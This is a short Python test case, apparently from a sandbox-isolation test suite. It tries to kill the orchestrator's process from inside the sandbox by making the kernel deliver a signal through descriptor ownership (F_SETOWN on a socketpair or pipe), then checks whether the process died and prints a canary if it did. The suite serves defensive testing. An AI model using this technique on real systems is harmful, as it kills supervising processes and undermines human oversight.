# does: has the kernel signal the orchestrator's process for it, by the owner of a descriptor
# stopped by: a process table of its own (A); Landlock (B)
# profiles: A B
# off: leaked
# check: the process is gone
import fcntl
import os
import signal
import socket
import time
from kit import parts, stay, tries


def attack():
    pid = int(os.environ["PLANT_PID"])

    def own():
        near, far = socket.socketpair()
        fcntl.fcntl(near, fcntl.F_SETOWN, pid)
        fcntl.fcntl(near, 10, signal.SIGTERM)
        fcntl.fcntl(near, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        far.send(b"x")

    def pipe():
        reader, writer = os.pipe()
        fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"x")
    tries(own, pipe)
    time.sleep(0.2)


def check():
    try:
        with open("/proc/" + os.environ["PLANT_PID"] + "/stat") as file:
            if ") Z" not in file.read():
                return
    except OSError:
        pass
    print(os.environ["CANARY"])


parts(attack, stay, check)
